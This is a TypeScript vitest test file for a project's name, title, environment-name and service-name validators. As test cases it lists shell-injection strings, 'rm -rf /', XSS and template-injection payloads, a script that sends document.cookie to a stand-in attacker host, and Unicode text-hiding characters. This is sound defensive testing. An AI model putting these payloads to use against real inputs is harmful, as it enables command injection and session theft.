import { expect, test } from 'vitest'
import { EnvironmentName, Name, ServiceName, Title } from './name.ts'
import { codeOf } from './rule.ts'

const shell = [
  'proj;touch $CANARY',
  'proj`touch $CANARY`',
  'proj|touch $CANARY',
  'proj&touch $CANARY',
  'proj&&touch $CANARY',
  'proj||touch $CANARY',
  "proj'$(touch $CANARY)'",
  'proj$' + '{IFS}$(touch$' + '{IFS}$CANARY)',
  'proj>$CANARY',
  'proj<(touch $CANARY)',
  'proj%0atouch%20$CANARY',
  'proj{touch,$CANARY}',
]
const markup = [
  "<script>fetch('//attacker.test/'+document.cookie)</script>",
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '{{7*7}}',
  '$' + '{7*7}',
  '</title><script>alert(1)</script>',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
  '<!--<img src=--><img src=x onerror=alert(1)//>',
  '[x](javascript:alert(1))',
  'Click https://evil.example to accept',
]
const marked = [
  'proj#\ntouch $CANARY',
  'proj\\\ntouch $CANARY',
  '\u202e\u2066evil',
  'a\u2028b',
  'a\u2029b',
  'a\tb',
  'a\r\nb',
  '\u001b[2Jcleared',
  'a\u0085b',
  'a\u009b31mb',
  'a\u007fb',
  'left\u200e',
  'right\u200f',
  'letter\u061cmark',
]
const plain = [
  'a',
  '  padded  ',
  'Ünïcode 日本語',
  'e\u0301',
  'עברית',
  'فارسی\u200cها',
  '👩\u200d🚀',
  '__proto__',
  '😀'.repeat(200),
  'x'.repeat(200),
]

test.each([...shell, ...markup, ...plain])('the name %j is kept as it is', (text) => {
  expect(Name.parse(text)).toBe(text)
  expect(Title.parse(text)).toBe(text)
})

test.each([
  ['', 'required'],
  ['   ', 'required'],
  ['\n\t', 'required'],
  ['\u200b\u3164', 'required'],
  ['\0', 'required'],
  ['\0x', 'invalid_name'],
  ['x\ud800', 'invalid_name'],
  ['\udc00x', 'invalid_name'],
  ['x'.repeat(201), 'too_long'],
  ['😀'.repeat(201), 'too_long'],
])('the name %j is refused with %s', (text, code) => {
  expect(Name.safeParse(text).error?.issues.map(codeOf)).toEqual([code])
})

test.each(marked)('the name and title %j is refused: it would move or hide other text', (text) => {
  expect(Name.safeParse(text).error?.issues.map(codeOf)).toEqual(['invalid_name'])
  expect(Title.safeParse(text).error?.issues.map(codeOf)).toEqual(['invalid_title'])
})

test('a title may be empty but not invisible', () => {
  expect(Title.parse('')).toBe('')
  expect(Title.safeParse('  ').error?.issues.map(codeOf)).toEqual(['invalid_title'])
  expect(Title.safeParse('a\0').error?.issues.map(codeOf)).toEqual(['invalid_title'])
})

test.each(['a', '7', 'staging', 'feature-1', 'pr', 'pr-x', 'print-7', 'pr7', 'a'.repeat(50)])(
  'an environment may be called %s',
  (text) => {
    expect(EnvironmentName.parse(text)).toBe(text)
  },
)

const notLabels = [
  '',
  '-a',
  'a-',
  'A',
  'a_b',
  'a.b',
  'a b',
  'ü',
  'xn--mnchen-3ya',
  'ab--c',
  'a\n',
  'a'.repeat(51),
  ...shell,
  ...marked,
]
test.each(notLabels)('an environment may not be called %j', (text) => {
  expect(EnvironmentName.safeParse(text).error?.issues.map(codeOf)).toEqual(['invalid_environment_name'])
})

test.each(['pr-7', 'pr-007', 'pr-7-api', 'pr-12345678901'])('%s belongs to pull requests', (text) => {
  expect(EnvironmentName.safeParse(text).error?.issues.map(codeOf)).toEqual(['reserved_name'])
})

test.each(['web', 'api-2', 'my_db', 'laravel.test', '0', 'a'.repeat(63)])('a service may be called %s', (text) => {
  expect(ServiceName.parse(text)).toBe(text)
})

const services = [
  '$(touch $CANARY)',
  'svc`id`',
  'svc; rm -rf /',
  '../x',
  'a b',
  'A'.repeat(100),
  '__proto__',
  'constructor',
]
test.each([...services, 'toString', 'a\nb', '', '-a', '_a', '.a', 'a'.repeat(64)])(
  'a service may not be called %j',
  (text) => {
    expect(ServiceName.safeParse(text).error?.issues.map(codeOf)).toEqual(['invalid_service_name'])
  },
)
